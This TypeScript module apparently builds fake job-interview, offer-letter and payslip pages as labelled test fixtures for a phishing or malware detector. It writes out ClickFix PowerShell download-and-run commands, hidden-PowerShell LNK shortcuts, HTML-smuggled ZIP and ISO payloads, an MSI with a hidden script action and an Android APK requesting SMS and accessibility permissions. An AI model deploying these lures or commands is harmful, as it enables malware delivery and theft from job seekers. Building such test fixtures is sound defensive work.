import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { b64, cssBase, doc, esc, mark } from '../parts/yr-kit.js';
import { apk, cfb, fileRoute, iso, jsonRoute, jsRoute, lnk, pe, zip } from '../parts/e-bin.js';

const offerZip = zip([
  { name: 'Offer_Package_Brightline/Offer_Letter_2025.pdf.lnk', data: lnk('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-NoP -W Hidden -c "$u=\'https://docs-brightline-hr.com/o/sv.ps1\';iex((New-Object Net.WebClient).DownloadString($u))"', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe') },
  { name: 'Offer_Package_Brightline/Benefits_Summary.pdf.lnk', data: lnk('C:\\Windows\\System32\\cmd.exe', '/c start /min powershell -NoP -W Hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGQAbwBjAHMALQBiAHIAaQBnAGgAdABsAGkAbgBlAC0AaAByAC4AYwBvAG0ALwBvAC8AYgAuAHAAcwAxACkA') },
]);

const payslipIso = iso('PAYSLIP_OCT25', ['Payslip_October_2025.pdf.lnk', 'data.dll', 'readme.txt']);

const jdZip = zip([
  { name: 'Marketing_Manager_Job_Description.pdf.exe', data: pe({ x64: true, strings: ['Adobe Acrobat Reader', 'Job Description', 'CreateProcessW', 'VirtualAlloc', 'InternetOpenUrlA', 'http://185.244.30.19/gate.php'], size: 40000 }) },
  { name: 'Salary_and_Benefits_2025.docx.lnk', data: lnk('C:\\Windows\\System32\\mshta.exe', 'https://jd-docs-share.com/s/b.hta') },
]);

export const entries: Entry[] = [
  {
    id: 'yr-clickfix-interview-room-camera-win-r',
    label: 'clickfix',
    kind: 'clickfix-fake-interview',
    url: 'https://interview.talentsync-video.com/room/HV-71823?candidate=ana.m',
    body: doc({
      title: 'TalentSync Video Interview – Device check',
      css: `body{margin:0;font-family:Inter,Segoe UI,Arial,sans-serif;background:#0f172a;color:#e2e8f0}.top{display:flex;align-items:center;padding:14px 24px;border-bottom:1px solid #1e293b}.top b{margin-right:auto}
.g{display:grid;grid-template-columns:1.3fr 1fr;gap:24px;max-width:1100px;margin:30px auto;padding:0 20px}.v{background:#020617;border-radius:14px;aspect-ratio:16/9;display:flex;align-items:center;justify-content:center;flex-direction:column;border:1px solid #334155}
.er{color:#f87171;font-size:15px}.p{background:#111c33;border-radius:14px;padding:22px}.p h3{margin-top:0}.k{display:inline-block;background:#334155;border-radius:4px;padding:1px 7px;font-family:monospace}
.b{background:#3b82f6;color:#fff;border:0;border-radius:8px;padding:12px 18px;font-weight:600;cursor:pointer;width:100%;margin-top:12px}ol li{margin:8px 0}#ok{display:none;color:#4ade80}`,
      body: `<div class="top"><b>TalentSync · Video Interview</b><span style="font-size:13px;color:#94a3b8">Position: Senior Financial Analyst · Interviewer: Michael Grant (Hiring Manager)</span></div>
<div class="g"><div class="v"><div style="font-size:46px">📷</div><div class="er">Camera error 0x80070005 – video device blocked by system driver</div><p style="font-size:13px;color:#94a3b8">Your interviewer is waiting in the room. Fix your camera to join.</p></div>
<div class="p"><h3>Fix camera access (Windows)</h3><p style="font-size:14px">Recent Windows updates may block browser access to webcams. Run our one-click repair to reset the camera driver permissions:</p>
<ol><li>Click <b>Copy repair command</b> below</li><li>Press <span class="k">Win</span> + <span class="k">R</span></li><li>Press <span class="k">Ctrl</span> + <span class="k">V</span> and then <span class="k">Enter</span></li><li>Return to this tab and click <b>Rejoin</b></li></ol>
<button class="b" id="cp">Copy repair command</button><p id="ok">✔ Command copied. Press Win + R, then Ctrl + V and Enter.</p><button class="b" style="background:#1e293b" onclick="location.reload()">Rejoin</button></div></div>
<script>
var cmd='powershell -w h -nop -c "$r=iwr -useb https://cdn.talentsync-video.com/drv/camfix.ps1;iex $r" # Windows Camera Driver Repair KB5034441';
function cp(){ if(navigator.clipboard&&navigator.clipboard.writeText){navigator.clipboard.writeText(cmd)} else {var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()} document.getElementById('ok').style.display='block'}
document.getElementById('cp').addEventListener('click',cp);
navigator.mediaDevices&&navigator.mediaDevices.getUserMedia&&navigator.mediaDevices.getUserMedia({video:true}).then(function(s){s.getTracks().forEach(function(t){t.stop()})}).catch(function(){});
</script>`,
    }),
    routes: {
      'cdn.talentsync-video.com/drv/camfix.ps1': fileRoute(`$ErrorActionPreference='SilentlyContinue';$p="$env:APPDATA\\CamSvc";New-Item -ItemType Directory $p -Force|Out-Null;iwr 'https://cdn.talentsync-video.com/drv/camsvc.zip' -OutFile "$p\\c.zip";Expand-Archive "$p\\c.zip" $p -Force;Start-Process "$p\\CamService.exe" -WindowStyle Hidden;Write-Host 'Camera driver repaired.'`, 'text/plain'),
    },
  },
  {
    id: 'yr-de-clickfix-teams-bewerbungsgespraech-audio',
    label: 'clickfix',
    kind: 'clickfix-fake-interview',
    url: 'https://teams-bewerbung.meeting-join.de/l/meetup-join/19%3ameeting_NjQ2/0',
    body: doc({
      title: 'Microsoft Teams – Bewerbungsgespräch',
      lang: 'de',
      css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f5f5f5}.t{background:#464775;color:#fff;padding:10px 20px;font-weight:600}
.w{max-width:640px;margin:50px auto;background:#fff;border-radius:6px;box-shadow:0 4px 16px rgba(0,0,0,.12);padding:28px}.e{background:#fde7e9;color:#a4262c;padding:12px;border-radius:4px}
code{display:block;background:#1f1f1f;color:#dcdcdc;padding:12px;border-radius:4px;font-size:12px;word-break:break-all;margin:10px 0}.b{background:#5b5fc7;color:#fff;border:0;padding:10px 20px;border-radius:4px;font-weight:600}`,
      body: `<div class="t">Microsoft Teams</div><div class="w"><h2>Bewerbungsgespräch: Sachbearbeiter/in Lohnbuchhaltung</h2><p>Gastgeber: <b>Katrin Wolf (Personalabteilung, Lindqvist Maschinenbau GmbH)</b></p>
<div class="e"><b>Fehler beim Audiogerät (Code 0xC00D36FA).</b> Ihr Mikrofon und Ihre Kamera konnten nicht initialisiert werden. Ohne funktionierendes Audio können Sie dem Gespräch nicht beitreten.</div>
<p>So beheben Sie das Problem:</p><ol><li>Klicken Sie auf <b>„Lösung kopieren“</b>.</li><li>Drücken Sie <b>Windows-Taste + X</b> und wählen Sie <b>„Terminal (Administrator)“</b>.</li><li>Fügen Sie den Befehl mit <b>Strg + V</b> ein und drücken Sie <b>Enter</b>.</li></ol>
<code id="c">powershell -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBuAHYAbwBrAGUALQBSAGUAcwB0AE0AZQB0AGgAbwBkACAALQBVAHIAaQAgACcAaAB0AHQAcABzADoALwAvAG0AZQBlAHQAaQBuAGcALQBqAG8AaQBuAC4AZABlAC8AYQB1AGQAaQBvAGYAaQB4AC4AcABzADEAJwAgAHwAIABJAG4AdgBvAGsAZQAtAEUAeABwAHIAZQBzAHMAaQBvAG4A</code>
<button class="b" id="k">Lösung kopieren</button> <span id="m" style="color:#237b4b;display:none">Kopiert!</span></div>
<script>document.getElementById('k').onclick=function(){navigator.clipboard.writeText(document.getElementById('c').textContent);document.getElementById('m').style.display='inline'};</script>`,
    }),
  },
  {
    id: 'yr-gomeet-interview-client-exe-autodownload',
    label: 'malware',
    kind: 'fake-meeting-client',
    url: 'https://join.gomeet-interview.com/j/84219907310?pwd=Q2xSeHh',
    body: doc({
      title: 'GoMeet – Launch Meeting',
      css: `body{margin:0;font-family:Lato,Arial,sans-serif;background:#fff;color:#232333}.h{padding:14px 30px;border-bottom:1px solid #ededf4;font-weight:800;font-size:22px;color:#0e72ed}
.c{max-width:640px;margin:70px auto;text-align:center}.c h2{font-weight:500}.b{display:inline-block;background:#0e72ed;color:#fff;padding:12px 30px;border-radius:10px;text-decoration:none;font-weight:600}.s{font-size:14px;color:#747487}`,
      body: `<div class="h">GoMeet</div>
<div class="c"><h2>Your interview with <b>Harbor Freight Logistics – HR</b> starts in 5 minutes</h2><p class="s">Meeting ID: 842 1990 7310 · Candidates must join using the GoMeet desktop client for identity verification and screen recording.</p>
<p>Your download should start automatically. If it doesn't, <a href="/download/GoMeetInterviewSetup.exe" id="dl">download now</a>.</p>
<a class="b" href="/download/GoMeetInterviewSetup.exe">Download &amp; Join</a>
<p class="s" style="margin-top:30px">1. Open <b>GoMeetInterviewSetup.exe</b> from your Downloads · 2. Click <b>Yes</b> if Windows asks for permission · 3. The meeting opens automatically</p>
<p class="s">macOS: <a href="/download/GoMeetInterview.pkg">GoMeetInterview.pkg</a></p></div>
<iframe src="/download/GoMeetInterviewSetup.exe" style="display:none"></iframe>`,
    }),
    routes: {
      'join.gomeet-interview.com/download/GoMeetInterviewSetup.exe': fileRoute(pe({ x64: true, strings: ['GoMeet Interview', 'Inno Setup', 'AnyDesk', 'ScreenConnect.ClientService', 'relay.gomeet-interview.com'], size: 60000 }), 'application/octet-stream', 'GoMeetInterviewSetup.exe'),
    },
  },
  {
    id: 'yr-teams-candidate-assessment-plugin-msi',
    label: 'malware',
    kind: 'fake-meeting-client',
    url: 'https://teams-candidate-assessment.com/plugin/install?ref=hr-7781',
    body: doc({
      title: 'Microsoft Teams – Candidate Assessment Plugin required',
      css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#ebebf6}.c{max-width:560px;margin:80px auto;background:#fff;border-radius:8px;padding:34px;text-align:center;box-shadow:0 6px 20px rgba(70,71,117,.15)}
.b{display:inline-block;background:#5b5fc7;color:#fff;padding:12px 26px;border-radius:4px;text-decoration:none;font-weight:600}.p{height:6px;background:#e1dfdd;border-radius:3px;margin:20px 0}.p i{display:block;height:6px;width:0;background:#5b5fc7;border-radius:3px;transition:width 3s}`,
      body: `<div class="c"><div style="font-size:46px;color:#5b5fc7">▣</div><h2>Assessment plugin required</h2>
<p>The recruiter has enabled <b>Candidate Assessment</b> (proctoring, identity check and coding pad) for this interview. Install the plugin for Microsoft Teams to continue.</p>
<div class="p"><i id="pb"></i></div><a class="b" id="go" href="/plugin/TeamsCandidateAssessment_x64.msi">Install plugin</a>
<p style="font-size:12px;color:#605e5c;margin-top:18px">Version 3.2.1.7 · Signed package · 14.8 MB</p></div>
<script>setTimeout(function(){document.getElementById('pb').style.width='100%'},100);setTimeout(function(){location.href=document.getElementById('go').href},3200);</script>`,
    }),
    routes: {
      'teams-candidate-assessment.com/plugin/TeamsCandidateAssessment_x64.msi': fileRoute(cfb(['Windows Installer', 'TeamsCandidateAssessment', 'CustomAction', 'powershell.exe -ep bypass -w hidden -file "[TempFolder]tca.ps1"', 'Binary.tca.ps1'], 16384), 'application/x-msi', 'TeamsCandidateAssessment_x64.msi'),
    },
  },
  {
    id: 'yr-smuggled-offer-package-zip-lnk',
    label: 'malware',
    kind: 'html-smuggling',
    url: 'https://brightline-careers-offer.com/offer/view?token=eyJjIjoiODgxIn0',
    body: doc({
      title: 'Offer Letter – Brightline Health',
      css: `body{margin:0;font-family:Calibri,Arial,sans-serif;background:#525659;color:#fff;display:flex;align-items:center;justify-content:center;height:100vh}
.b{background:#323639;padding:30px 40px;border-radius:6px;text-align:center}.b .i{font-size:50px}.sp{width:30px;height:30px;border:3px solid #777;border-top-color:#fff;border-radius:50%;animation:s 1s linear infinite;margin:14px auto}@keyframes s{to{transform:rotate(360deg)}}`,
      body: `<div class="b"><div class="i">📎</div><h3>Offer_Package_Brightline.zip</h3><div class="sp"></div><p id="m">Preparing your secure offer package…</p><p style="font-size:12px;color:#aaa">Open the ZIP file from your Downloads folder and double-click <b>Offer_Letter_2025.pdf</b>.</p></div>
<script>
(function(){
  var p1='${offerZip.toString('base64').slice(0, Math.floor(offerZip.toString('base64').length / 2))}';
  var p2='${offerZip.toString('base64').slice(Math.floor(offerZip.toString('base64').length / 2))}';
  function d(s){var b=atob(s),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);return u}
  setTimeout(function(){
    var blob=new Blob([d(p1+p2)],{type:'application/octet-stream'});
    var a=document.createElement('a');a.href=URL.createObjectURL(blob);a['down'+'load']='Offer_Package_Brightline.zip';document.body.appendChild(a);a.click();
    document.getElementById('m').textContent='Download complete.';
  },1200);
})();
</script>`,
    }),
  },
  {
    id: 'yr-smuggled-payslip-iso-chunks',
    label: 'malware',
    kind: 'html-smuggling',
    url: 'https://payslip-docs.hr-secure-share.com/v/Payslip_October_2025',
    body: doc({
      title: 'Payslip_October_2025.pdf',
      css: `body{margin:0;background:#f0f0f0;font-family:Arial,sans-serif}.bar{background:#b30b00;color:#fff;padding:10px 16px;font-weight:bold}.c{max-width:500px;margin:90px auto;background:#fff;padding:30px;text-align:center;border:1px solid #ddd}`,
      body: `<div class="bar">Adobe Document Cloud</div><div class="c"><h3>Payslip_October_2025.pdf</h3><p>This document is protected and is being downloaded for offline viewing.</p><p style="font-size:13px;color:#666">If your browser asks, choose <b>Keep</b>. Double-click the downloaded file to open your payslip.</p></div>
<script>
var parts=${JSON.stringify(payslipIso.toString('base64').match(/.{1,400}/g))};
var bin=atob(parts.join('')),arr=new Uint8Array(bin.length);for(var i=0;i<bin.length;i++)arr[i]=bin.charCodeAt(i);
var f=new File([arr],'Payslip_October_2025.iso',{type:'application/x-iso9660-image'});
if(window.navigator.msSaveOrOpenBlob){window.navigator.msSaveOrOpenBlob(f,f.name)}else{var a=document.createElement('a');a.style.display='none';a.href=window.URL.createObjectURL(f);a.download=f.name;document.body.appendChild(a);a.click();setTimeout(function(){URL.revokeObjectURL(a.href)},4000)}
</script>`,
    }),
  },
  {
    id: 'yr-tl-onlinetrabaho-app-apk',
    label: 'malware',
    kind: 'malicious-apk',
    url: 'https://onlinetrabaho-ph.app/download',
    body: doc({
      title: 'I-download ang OnlineTrabaho PH App – Kumita araw-araw',
      lang: 'fil',
      css: `body{margin:0;font-family:Arial,sans-serif;background:linear-gradient(#0ea5e9,#0369a1);color:#fff;min-height:100vh;text-align:center}.w{max-width:420px;margin:0 auto;padding:40px 20px}
.ic{width:96px;height:96px;border-radius:22px;background:#fff;color:#0369a1;font-size:46px;line-height:96px;margin:0 auto}.b{display:block;background:#facc15;color:#422006;font-weight:700;padding:15px;border-radius:30px;text-decoration:none;margin:22px 0;font-size:18px}
.s{background:rgba(255,255,255,.15);border-radius:12px;padding:12px;text-align:left;font-size:14px}`,
      body: `<div class="w"><div class="ic">₱</div><h1>OnlineTrabaho PH</h1><p>Ang opisyal na app para sa mga natanggap sa aming online job. Dito mo makikita ang iyong tasks, sahod at withdrawal sa GCash.</p>
<a class="b" href="/files/OnlineTrabahoPH_v2.4.1.apk">I-download ang APK (18 MB)</a>
<div class="s"><b>Paano i-install:</b><ol><li>Buksan ang na-download na file</li><li>Kung lumabas ang “Install unknown apps”, pindutin ang <b>Settings → Allow from this source</b></li><li>Pagkabukas ng app, i-on ang <b>Accessibility → OnlineTrabaho Service</b> para awtomatikong ma-record ang tasks mo</li><li>Mag-login gamit ang GCash number mo</li></ol></div>
<p style="font-size:12px;opacity:.8">Hindi available sa Play Store dahil sa bagong payroll feature.</p></div>`,
    }),
    routes: {
      'onlinetrabaho-ph.app/files/OnlineTrabahoPH_v2.4.1.apk': fileRoute(apk('ph.onlinetrabaho.app', 'OnlineTrabaho PH', ['android.permission.BIND_ACCESSIBILITY_SERVICE', 'android.permission.RECEIVE_SMS', 'android.permission.READ_SMS', 'android.permission.SYSTEM_ALERT_WINDOW', 'com.globe.gcash.android']), 'application/vnd.android.package-archive', 'OnlineTrabahoPH_v2.4.1.apk'),
    },
  },
  {
    id: 'yr-jd-archive-pdf-exe-fileshare',
    label: 'malware',
    kind: 'malware-download',
    url: 'https://jd-docs-share.com/s/Vx8q2LmP/Marketing_Manager_JD',
    body: doc({
      title: 'Marketing_Manager_JD.zip – Shared file',
      css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f7f9fa}.h{background:#fff;padding:12px 24px;border-bottom:1px solid #e6e8eb;font-weight:700;color:#0061fe}
.c{max-width:560px;margin:60px auto;background:#fff;border:1px solid #e6e8eb;border-radius:8px;padding:28px}.f{display:flex;gap:14px;align-items:center}.f i{font-size:40px;font-style:normal}
.b{display:inline-block;background:#0061fe;color:#fff;padding:11px 24px;border-radius:6px;text-decoration:none;font-weight:600;margin-top:16px}`,
      body: `<div class="h">FileDrop</div><div class="c"><div class="f"><i>🗜️</i><div><b>Marketing_Manager_JD.zip</b><br><span style="font-size:13px;color:#637282">412 KB · shared by recruitment@veloria-cosmetics.com</span></div></div>
<p>Hello, as discussed on LinkedIn please find attached the job description and the salary &amp; benefits package for the <b>Marketing Manager (EMEA)</b> position. The archive password is <b>2025</b>.</p>
<a class="b" href="/s/Vx8q2LmP/dl/Marketing_Manager_JD.zip">Download</a></div>
<script>setTimeout(function(){location.assign('/s/Vx8q2LmP/dl/Marketing_Manager_JD.zip')},2000)</script>`,
    }),
    routes: {
      'jd-docs-share.com/s/Vx8q2LmP/dl/Marketing_Manager_JD.zip': fileRoute(jdZip, 'application/zip', 'Marketing_Manager_JD.zip'),
    },
  },
];
